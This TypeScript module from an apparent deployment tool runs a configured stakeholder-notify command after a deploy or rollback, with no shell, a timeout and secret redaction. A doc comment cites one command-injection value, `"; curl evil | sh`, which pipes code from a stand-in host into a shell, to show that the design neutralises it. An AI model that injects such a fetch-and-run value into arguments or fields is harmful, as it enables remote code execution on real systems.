/**
 * Seed 000's "notify stakeholders", once the outcome of a deploy or rollback is known: the configured
 * `notify:` argument vector (an environment's own, else the top-level one), placeholders filled in
 * (util/argv-placeholders.ts, the same expansion as the `command` provider), run without a shell through
 * exec/run.ts with its timeout. Its exit code and output (redacted, truncated) become one entry of the
 * record's `facts.communications`. A notify that fails or hangs is recorded as a deviation; it never
 * changes the outcome, and it never throws.
 *
 * Good: a rollback reason `"; curl evil | sh` reaches the notify script as one plain argument.
 * Bad:  a Slack outage turning a good deploy into a failed one.
 */
import { runArgv, type ProjectCommands } from '../exec/run.js';
import { NOTIFY_PLACEHOLDERS, type NotifyConfig, type NotifyEvent } from '../config/notify-schema.js';
import type { ShipgateConfig } from '../config/schema.js';
import type { StakeholderCommunication } from '../records/deploy-context.js';
import type { DeploymentRecord } from '../records/record-schema.js';
import { expandPlaceholders } from '../util/argv-placeholders.js';
import { redactSecrets, secretEnvValues } from '../util/redact-secrets.js';
import { formatDuration } from '../util/duration.js';

/** Characters of stdout and of stderr kept in the record (the tail). */
const MAX_OUTPUT = 2_000;

export interface NotifyPlan {
  argv: string[];
  timeoutMs: number;
  status: NotifyEvent;
}

/** The notify that applies to an environment: its own `notify:` replaces the top-level one. */
export function notifyConfigFor(config: ShipgateConfig, environment: string): NotifyConfig | undefined {
  const own = Object.prototype.hasOwnProperty.call(config.environments, environment) ? config.environments[environment]?.notify : undefined;
  return own ?? config.notify;
}

/** The plan's line about notify (`--dry-run` shows what will be told, and when), or nothing when none applies. */
export function describeNotify(notify: NotifyConfig | undefined): string | undefined {
  if (!notify) return undefined;
  if (notify.on.length === 0) return 'Notify: off for this environment (notify.on is empty).';
  return `Notify after the outcome (${notify.on.join(', ')}): \`${notify.command.join(' ')}\` (placeholders filled in, no shell, timeout ${formatDuration(notify.timeout)}); a failure is recorded and never changes the outcome.`;
}

/** What to run for this record's outcome, or nothing (no notify configured, or `on:` leaves the outcome out). Pure. */
export function planNotification(notify: NotifyConfig | undefined, record: DeploymentRecord, url: string | undefined): NotifyPlan | undefined {
  const status = notifyStatus(record);
  if (!notify || !status || !notify.on.includes(status)) return undefined;
  const values: Record<keyof typeof NOTIFY_PLACEHOLDERS, string> = {
    env: record.environment,
    status,
    kind: record.kind,
    version: record.version,
    tag: record.tag,
    sha: record.commit,
    previous_version: record.previous?.version ?? '',
    deployment_id: record.id,
    url: url ?? '',
    reason: record.status === 'succeeded' && record.kind === 'deploy' ? '' : (record.rollback?.trigger ?? record.reason ?? ''),
    record: record.files.markdown,
  };
  return { argv: expandPlaceholders(notify.command, Object.keys(NOTIFY_PLACEHOLDERS), values), timeoutMs: notify.timeout, status };
}

/**
 * The outcome a record announces. A rollback that put a release back is `rolled_back` like an automatic
 * one, so `on: [rolled_back]` hears about both; anything else that did not succeed is `failed`.
 */
function notifyStatus(record: DeploymentRecord): NotifyEvent | undefined {
  if (record.status === 'in_progress' || record.status === 'blocked') return undefined;
  if (record.kind === 'rollback') return record.status === 'succeeded' ? 'rolled_back' : 'failed';
  return record.status === 'succeeded' ? 'succeeded' : record.status === 'rolled_back' ? 'rolled_back' : 'failed';
}

/** Run the plan and describe what happened; never throws (a notify cannot change an outcome). */
export async function sendNotification(plan: NotifyPlan, options: { projectRoot: string; env?: NodeJS.ProcessEnv; now?: () => Date; commands?: ProjectCommands }): Promise<StakeholderCommunication> {
  const at = (options.now ?? (() => new Date()))().toISOString();
  const secrets = secretEnvValues({ ...process.env, ...options.env });
  const redact = (text: string) => redactSecrets(text, secrets);
  const [file, ...args] = plan.argv;
  try {
    const result = await runArgv(file!, args, { cwd: options.projectRoot, timeoutMs: plan.timeoutMs, maxOutput: MAX_OUTPUT, env: { ...options.env, ...options.commands?.env }, ...(options.commands?.confine ? { confine: options.commands.confine } : {}) });
    const ok = result.exitCode === 0 && !result.timedOut;
    const detail = ok ? 'exit 0' : result.timedOut ? `timed out after ${plan.timeoutMs} ms (notify.timeout)` : (result.spawnError ?? `exit ${result.exitCode}`);
    return { at, status: plan.status, command: plan.argv.map(redact), ok, exitCode: result.exitCode, timedOut: result.timedOut, durationMs: result.durationMs, stdout: redact(result.stdout), stderr: redact(result.stderr), detail: redact(detail) };
  } catch (error) {
    return { at, status: plan.status, command: plan.argv.map(redact), ok: false, exitCode: 127, timedOut: false, durationMs: 0, stdout: '', stderr: '', detail: redact(`could not run: ${(error as Error).message}`) };
  }
}

/**
 * Notify for a finished record and add what happened to `record.facts.communications` (the caller
 * writes the record). Returns the communication, or undefined when nothing was configured for it.
 */
export async function notifyStakeholders(input: { projectRoot: string; commands?: ProjectCommands; config: ShipgateConfig; record: DeploymentRecord; url?: string; env?: NodeJS.ProcessEnv; now?: () => Date }): Promise<StakeholderCommunication | undefined> {
  const plan = planNotification(notifyConfigFor(input.config, input.record.environment), input.record, input.url);
  if (!plan || !input.record.facts) return undefined;
  const communication = await sendNotification(plan, input);
  input.record.facts.communications.push(communication);
  return communication;
}

/** One warning line per notify that did not get through (the CLI prints them on stderr; the outcome stands). */
export function notifyWarnings(record: DeploymentRecord): string[] {
  return (record.facts?.communications ?? []).filter((c) => !c.ok).map((c) => `the notify command failed (${c.detail}): stakeholders may not have been told about this ${c.status} ${record.kind}; its output is in ${record.files.markdown}`);
}
